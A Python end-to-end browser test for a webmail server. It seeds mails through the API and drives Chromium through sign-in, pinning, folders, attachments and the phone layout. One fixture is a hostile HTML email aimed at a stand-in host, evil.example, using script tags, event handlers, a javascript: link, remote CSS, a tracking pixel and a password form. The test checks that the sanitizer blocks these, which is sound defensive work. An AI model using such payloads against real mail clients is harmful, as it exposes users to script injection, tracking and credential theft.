#!/usr/bin/env python3
"""Browser test of the webmail: a real `yizhan serve` (tests/proto/yzharness.py) with mail
stored through the API first (a Japanese mail from the corpora, a weekly report, a hostile
HTML mail), then tests/e2e/webmail.mjs drives Debian's chromium through playwright-core:
sign in, read, pin, colour, note + search by note, a Chinese folder + drag a mail onto it,
hostile HTML (no script, no remote request), compose to myself with attachments (picker and
drag and drop) and receive it, undo send, tabs restored on another device (a phone), the phone
layout. Afterwards the server's state is checked through the API. Screenshots go to
tests/e2e/artifacts/ (or $YZ_ARTIFACTS)."""
import os
import subprocess
import sys
import time
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, "..", "..")
sys.path.insert(0, os.path.join(HERE, "..", "proto"))
import yzharness as yz  # noqa: E402

USER = "li.lei@example.test"
PASSWORD = "Zhong-Wen-9!mima"
NAME = "李雷"
NEWPASS = "Xin-Mi-Ma-2026!改"
JP_MAIL = os.path.join(ROOT, "tests", "data", "mail", "mikel-mail", "multi_charset", "japanese_iso_2022.eml")
ATTACH = os.path.join(ROOT, "tests", "data", "mail", "gmime-charsets", "encodings", "photo.jpg")
WEEKLY = "周报：第 12 周"
HOSTILE = "Quarterly figures"

STEPS = (
    "ok signed in, inbox lists",
    "ok read the Japanese mail: まみむめも / すみません",
    "ok pinned: the mail is first in the list",
    "ok colour tag red shown in the list and the reader",
    "ok note saved and found by note:",
    "ok search suggests has:attachment",
    "ok dragged \"%s\" onto the new folder 项目资料" % WEEKLY,
    "ok hostile HTML: no script, no handler, no form, 0 remote requests",
    "ok sent \"附件测试",
    "ok received it in the inbox without reloading",
    "ok received mail shows",
    "ok a bad address was refused",
    "undo send brought the compose back; closing it kept a draft",
    "ok language switch",
    "ok another device restored",
    "ok phone: one column",
    "ok display name changed; sessions listed; the phone was signed out from here",
    "ok password changed in the browser",
    "ok all",
)


def weekly_mail():
    return ("From: =?UTF-8?B?6Z+p5qKF5qKF?= <han.meimei@example.test>\r\n"
            "To: %s\r\n"
            "Subject: =?UTF-8?B?%s?=\r\n"
            "Date: Mon, 17 Mar 2025 09:30:00 +0800\r\n"
            "Message-ID: <weekly-12@example.test>\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=utf-8\r\n"
            "Content-Transfer-Encoding: 8bit\r\n\r\n"
            "本周完成：接口联调、测试用例评审。\r\n下周计划：上线准备。\r\n"
            % (USER, __import__("base64").b64encode(WEEKLY.encode()).decode())).encode()


def hostile_mail():
    html = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/link.css">
<style>@import url("https://evil.example/import.css");
body { background: url(https://evil.example/bg.png); color: #223; }
.x { background-image: url('//evil.example/x.png') }</style>
<script>parent.__pwned = 'script'; parent.document.title = 'PWNED';</script>
</head><body onload="parent.__pwned='onload'">
<p class="x">visible text of the quarterly figures</p>
<img src="https://evil.example/pixel.gif" width="1" height="1" alt="">
<img src="x" onerror="parent.__pwned='onerror'">
<svg onload="parent.__pwned='svg'"><image href="https://evil.example/svg.png"/></svg>
<div style="background:url('https://evil.example/div.png')">styled div</div>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object>
<form action="https://evil.example/form" method="post"><input name="pw"><button>go</button></form>
<a href="javascript:parent.__pwned='link'">click me</a>
<a href="https://example.org/ok">a normal link</a>
<video poster="https://evil.example/poster.png"></video>
</body></html>"""
    return ("From: Mallory <mallory@evil.example>\r\n"
            "To: %s\r\n"
            "Subject: %s\r\n"
            "Date: Tue, 18 Mar 2025 10:00:00 +0000\r\n"
            "Message-ID: <hostile-1@evil.example>\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: text/html; charset=utf-8\r\n\r\n%s" % (USER, HOSTILE, html)).encode()


class Webmail(unittest.TestCase):
    def test_webmail_day(self):
        node_modules = os.path.join(ROOT, "node_modules", "playwright-core")
        if not os.path.isdir(node_modules):
            self.fail("node_modules/playwright-core is missing: run scripts/setup.sh")
        with yz.Server(users=[(USER, PASSWORD, "user", NAME)]) as srv:
            s = yz.login(srv, USER, PASSWORD)
            folders = s.get("/api/v1/folders").json()["items"]
            inbox = [f["id"] for f in folders if f["role"] == "inbox"][0]
            with open(JP_MAIL, "rb") as f:
                jp_raw = f.read()
            for raw in (jp_raw, weekly_mail(), hostile_mail()):
                r = s.req("POST", "/api/v1/folders/%d/messages" % inbox,
                          headers={"Content-Type": "message/rfc822"}, body=raw)
                self.assertEqual(r.status, 201, r)

            env = dict(os.environ, YZ_BASE="https://localhost:%d" % srv.port, YZ_USER=USER,
                       YZ_PASS=PASSWORD, YZ_NEWPASS=NEWPASS, YZ_NAME=NAME, YZ_JP_SUBJECT="まみむめも",
                       YZ_JP_TEXT="すみません", YZ_WEEKLY_SUBJECT=WEEKLY,
                       YZ_HOSTILE_SUBJECT=HOSTILE, YZ_ATTACH=ATTACH,
                       YZ_ARTIFACTS=os.environ.get("YZ_ARTIFACTS",
                                                   os.path.join(HERE, "artifacts")))
            t0 = time.monotonic()
            cp = subprocess.run(["node", os.path.join(HERE, "webmail.mjs")], env=env,
                                capture_output=True, text=True, timeout=200)
            sys.stdout.write(cp.stdout)
            sys.stderr.write(cp.stderr)
            sys.stdout.write("webmail.mjs took %.1f s\n" % (time.monotonic() - t0))
            self.assertEqual(cp.returncode, 0, "webmail.mjs failed")
            for step in STEPS:
                self.assertIn(step, cp.stdout)

            # what the browser did is what the server now holds; the old password is gone
            with self.assertRaises(yz.LoginFailed):
                yz.login(srv, USER, PASSWORD)
            s = yz.login(srv, USER, NEWPASS)
            self.assertEqual(s.me()["name"], NAME + "（测试）")
            folders = s.get("/api/v1/folders").json()["items"]
            byname = {f["name"]: f for f in folders}
            self.assertIn("项目资料", byname)
            moved = s.get("/api/v1/messages?folder=%d" % byname["项目资料"]["id"]).json()["items"]
            self.assertEqual([m["subject"] for m in moved], [WEEKLY])
            items = s.get("/api/v1/messages?folder=%d&limit=100" % inbox).json()["items"]
            jp = [m for m in items if m["subject"] == "まみむめも"][0]
            self.assertTrue(jp["pinned"])
            self.assertEqual(jp["colour"], "red")
            self.assertTrue(jp["has_note"])
            self.assertIn("seen", jp["flags"])
            self.assertEqual(items[0]["id"], jp["id"], "the pinned mail is not first")
            got = [m for m in items if m["subject"].startswith("附件测试")]
            self.assertEqual(len(got), 1, [m["subject"] for m in items])
            r = s.get("/api/v1/messages/%d" % got[0]["id"])
            self.assertEqual(r.status, 200, r.body[:500])
            full = r.json()
            names = sorted(a["name"] for a in full["attachments"])
            self.assertEqual(names, sorted(["photo.jpg", "会议纪要.txt"]))
            self.assertIn("你好，这是带附件的测试邮件。", full["text"])
            drafts = [f["id"] for f in folders if f["role"] == "drafts"][0]
            dsubj = [m["subject"] for m in
                     s.get("/api/v1/messages?folder=%d" % drafts).json()["items"]]
            self.assertIn("撤销测试", dsubj)
            self.assertTrue(any(x.startswith("未完成的草稿") for x in dsubj), dsubj)
            st = s.get("/api/v1/ui-state").json()["state"]
            kinds = sorted(t["kind"] for t in st.get("tabs", []))
            self.assertEqual(kinds, ["compose", "mail"], st.get("tabs"))


if __name__ == "__main__":
    yz.main()  # the server logs are printed when something failed
